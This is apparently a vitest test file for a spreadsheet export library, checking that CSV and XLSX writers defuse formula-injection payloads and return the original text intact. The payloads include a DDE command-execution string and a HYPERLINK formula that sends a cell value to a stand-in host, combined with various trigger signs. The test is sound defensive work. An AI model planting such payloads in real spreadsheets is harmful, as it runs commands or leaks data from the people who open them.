import { Workbook } from '@cj-tech-master/excelts'
import fc from 'fast-check'
import PizZip from 'pizzip'
import { describe, expect, it } from 'vitest'
import { csvOf } from './csv.ts'
import { defuse, unfused } from './defuse.ts'
import { readGrids } from './grid.ts'
import { writeWorkbook } from './workbook.ts'

const signs = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠']
const bodies = [`cmd|' /C calc'!A0`, 'HYPERLINK("http://x.example/?"&A1,"1")', '1+1']
const payloads = signs.flatMap((sign) => bodies.map((body) => sign + body))
/** What a spreadsheet takes for a formula when it opens a cell as text. */
const active = /^\s*[=+\-@＝＋－＠]/u

describe('formulas in texts', () => {
  it('there are 30 of them', () => expect(payloads).toHaveLength(30))

  it.each(payloads)('%j is dead in a CSV and comes back as it was', async (payload) => {
    const [grid] = await readGrids(
      new TextEncoder().encode(
        csvOf([
          ['名称', '其他'],
          [payload, '甲'],
        ]),
      ),
    )
    const cell = String(grid?.rows[1]?.[0])
    expect(cell).not.toMatch(active)
    expect(unfused(cell)).toBe(payload)
  })

  it('all are dead in a workbook, as texts without a formula, and come back as they were', async () => {
    const bytes = await writeWorkbook({
      ...{ title: 't', author: 'a', createdAt: new Date('2026-06-01T00:00:00Z') },
      sheets: [{ name: '1', columns: [{ title: '名称', width: 10 }], rows: payloads.map((one) => [one]), notes: [] }],
    })
    const book = new Workbook()
    await book.xlsx.load(bytes)
    const sheet = book.worksheets[0]
    for (const [i, payload] of payloads.entries()) {
      const value = sheet?.getCell(i + 2, 1).value
      expect(typeof value).toBe('string')
      expect(value).not.toMatch(active)
      // XML knows one kind of line end.
      expect(unfused(String(value))).toBe(payload.replace('\r', '\n'))
    }
    expect(new PizZip(bytes).file('xl/worksheets/sheet1.xml')?.asText()).not.toMatch(/<f[ >]/)
  })

  it('any text comes back as it was', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.stringMatching(/^[ '=+\-@＝\t]{0,5}a?$/u)), (text) => {
        expect(unfused(defuse(text))).toBe(text)
      }),
    )
  })
})
